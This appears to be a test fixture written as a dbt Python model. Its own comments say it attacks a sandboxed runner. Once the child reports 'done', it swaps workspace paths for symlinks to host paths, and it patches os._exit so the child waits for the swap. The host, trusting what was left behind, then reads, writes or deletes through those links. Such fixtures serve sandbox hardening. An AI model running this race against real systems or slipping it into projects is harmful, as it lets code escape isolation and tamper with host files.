# attack: once the sandbox child has finished its steps (its results say "done"), replace workspace
# paths with symbolic links to host paths, so that the HOST, trusting what the child left behind,
# reads, writes or deletes through them. The links' targets do not exist inside the sandbox; they
# only mean something to code outside it. The test fills in TAMPER: (workspace path, link target).
import glob
import json
import os
import shutil
import threading
import time

TAMPER = __TAMPER__
SWAPPED = threading.Event()


def _swap(workspace):
    for rel, target in TAMPER:
        path = os.path.join(workspace, rel)
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path)
        elif os.path.lexists(path):
            os.unlink(path)
        os.symlink(target, path)


def _when_done(workspace):
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        for name in glob.glob(os.path.join(workspace, ".harvest_tmp", "result-*.json")):
            try:
                with open(name) as handle:
                    done = json.load(handle).get("done")
            except (OSError, ValueError):
                continue
            if done:
                _swap(workspace)
                SWAPPED.set()
                return
        time.sleep(0.005)


def _hold_exit(real_exit):
    def exit_after_the_swap(code):
        SWAPPED.wait(120)
        real_exit(code)

    return exit_after_the_swap


def model(dbt, session):
    # not a daemon (dbt runs models in daemon threads, whose children inherit that): the child's
    # interpreter waits for this thread before it exits; and the child, which ends with os._exit once
    # its results are written, is made to wait for it too (project code runs in the child's process)
    threading.Thread(target=_when_done, args=(os.environ["HARVEST_WORKSPACE"],), daemon=False).start()
    os._exit = _hold_exit(os._exit)
    return session.sql("select 1 as id")
